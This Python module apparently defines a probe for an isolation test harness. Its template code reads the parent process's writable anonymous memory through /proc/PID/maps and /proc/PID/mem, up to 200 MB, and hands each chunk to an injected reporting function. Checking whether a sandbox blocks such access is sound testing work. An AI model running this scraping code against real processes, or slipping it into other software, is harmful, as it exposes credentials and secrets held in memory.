"""Read the memory of the parent process through /proc/PID/mem; 200 MB at most."""

LINUX = True
FIRST = """{{TELL}}
import os


def search(process):
    budget = 200 << 20
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, _, _, inode = line.split()[:5]
            first, last = (int(part, 16) for part in span.split("-"))
            if not rights.startswith("rw") or inode != "0" or last - first > budget:
                continue
            budget -= last - first
            for start in range(first, last, 4 << 20):
                try:
                    memory.seek(start)
                    tell(memory.read(min(4 << 20, last - start)))
                except (OSError, ValueError, OverflowError):
                    break


try:
    if os.getppid() > 1:
        search(os.getppid())
except OSError:
    pass
"""
KEPT = {}
